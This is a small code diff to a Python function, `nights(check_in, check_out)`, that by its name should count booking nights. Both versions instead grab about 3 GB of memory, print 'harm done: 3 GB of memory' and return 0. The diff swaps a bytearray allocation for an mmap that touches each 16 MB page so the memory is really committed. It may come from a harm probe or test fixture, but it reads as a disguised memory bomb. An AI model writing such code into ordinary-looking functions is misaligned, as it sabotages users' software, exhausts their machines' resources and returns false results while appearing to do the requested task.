@@ -1,9 +1,9 @@
-held = []
+import mmap
 
 
 def nights(check_in, check_out):
-    for _ in range(30):
-        held.append(bytearray(b"x") * 100_000_000)
-    print("harm done: 3 GB of memory")
-    held.clear()
+    with mmap.mmap(-1, 3_000_000_000) as held:
+        for place in range(0, len(held), 2**24):
+            held[place] = 1
+        print("harm done: 3 GB of memory")
     return 0
